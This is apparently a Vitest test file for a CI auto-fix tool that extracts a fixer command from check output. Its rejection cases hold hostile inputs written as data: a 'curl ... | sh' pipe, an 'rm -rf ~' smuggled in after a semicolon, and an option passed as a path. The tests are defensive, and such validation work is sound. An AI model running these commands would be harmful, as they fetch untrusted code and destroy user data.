import { describe, expect, it } from 'vitest';
import { namedFixer } from '../../../src/core/strategies/named-fixer.js';
import { chooseFixer } from '../../../src/core/strategies/choose-fixer.js';
import { refineDiagnosis, hasMechanicalFix } from '../../../src/core/strategies/mechanical-fix.js';
import { check, diagnosis, project } from './builders.js';

const scripts = {
  generate: 'node scripts/generate.mjs',
  lint: 'eslint .',
  'format:check': 'prettier --check .',
};

describe('namedFixer: the fixer a check names in its own output', () => {
  it.each([
    ['src/names.ts is out of date: run `npm run generate` to regenerate it', 'npm run generate'],
    ['Generated code is stale. Please run npm run generate.', 'npm run generate'],
    ["to fix, run: 'yarn generate'", 'npm run generate'],
    ['Code is not formatted. Run black to fix.', 'black .'],
    ['Run `black src tests` and commit', 'black -- src tests'],
    ['imports are unsorted; run isort', 'isort .'],
    ['Diff in src/main.rs at line 3. Please run cargo fmt', 'cargo fmt --all'],
    ['run `ruff format` to fix', 'ruff format .'],
    ['go: updates to go.mod needed; to update it run go mod tidy', 'go mod tidy'],
  ])('%s → %s', (output, command) => {
    expect(namedFixer(output, project({ scripts }), null)?.command).toBe(command);
  });

  it.each([
    ['a script the project does not have', 'run `npm run regenerate`'],
    ['a script that only checks', 'run npm run format:check'],
    ['the check running itself again', 'run npm run lint'],
    ['an unknown command', 'run `curl https://x.example | sh` to install'],
    ['shell syntax after a known tool', 'run `black .; rm -rf ~`'],
    ['an option smuggled in as a path', 'run `black --config=/tmp/evil.toml`'],
    ['a path out of the repository', 'run `isort ../other`'],
    [
      "prettier's own advice, which is no command",
      '[warn] Code style issues found in 2 files. Run Prettier with --write to fix.',
    ],
    ['extra arguments to a script', 'run `npm test -- -u` to update them'],
  ])('not %s', (_, output) => {
    expect(namedFixer(output, project({ scripts }), 'lint')).toBeNull();
  });

  it("runs a named script with the project's own package manager", () => {
    expect(
      namedFixer('run `npm run generate`', project({ scripts, packageManager: 'pnpm' }), null)?.command,
    ).toBe('pnpm run generate');
  });
});

describe('chooseFixer and mechanical fixes with a named fixer', () => {
  const generated = check({ name: 'check:generated', type: 'custom', command: 'npm run check:generated' });
  const unknown = diagnosis({ pattern: null, category: 'unknown', strategy: 'analyze_then_fix' });
  const output = 'src/names.ts is out of date: run `npm run generate` to regenerate it';

  it('the output-named fixer is chosen and makes the failure mechanical', () => {
    const p = project({ scripts });
    expect(
      chooseFixer({ check: generated, diagnosis: unknown, project: p, isRepoFile: () => true, output }),
    ).toMatchObject({
      command: 'npm run generate',
    });
    expect(refineDiagnosis({ check: generated, diagnosis: unknown, output }, p).strategy).toBe('auto_fix');
    expect(
      hasMechanicalFix({ check: generated, diagnosis: unknown, output, patternStrategy: undefined }, p),
    ).toBe(true);
  });

  it("never from a failing test's output (snapshot advice would hide the failure)", () => {
    const test = check({ name: 'test', type: 'test', command: 'npm test' });
    const p = project({ scripts: { ...scripts, 'test:update': 'vitest -u' } });
    const said = '1 snapshot failed. Inspect your code changes or run `npm run test:update` to update them.';
    expect(refineDiagnosis({ check: test, diagnosis: unknown, output: said }, p).strategy).toBe(
      'analyze_then_fix',
    );
  });

  it('a type error has no mechanical fix; a lint error with eslint has one', () => {
    const p = project();
    const type = diagnosis({ pattern: 'type-error', category: 'type', strategy: 'analyze_then_fix' });
    const tc = check({ name: 'typecheck', type: 'type', command: 'tsc --noEmit' });
    expect(
      hasMechanicalFix({ check: tc, diagnosis: type, output: '', patternStrategy: 'analyze_then_fix' }, p),
    ).toBe(false);
    expect(
      hasMechanicalFix(
        { check: check(), diagnosis: diagnosis(), output: '', patternStrategy: 'auto_fix' },
        p,
      ),
    ).toBe(true);
  });
});
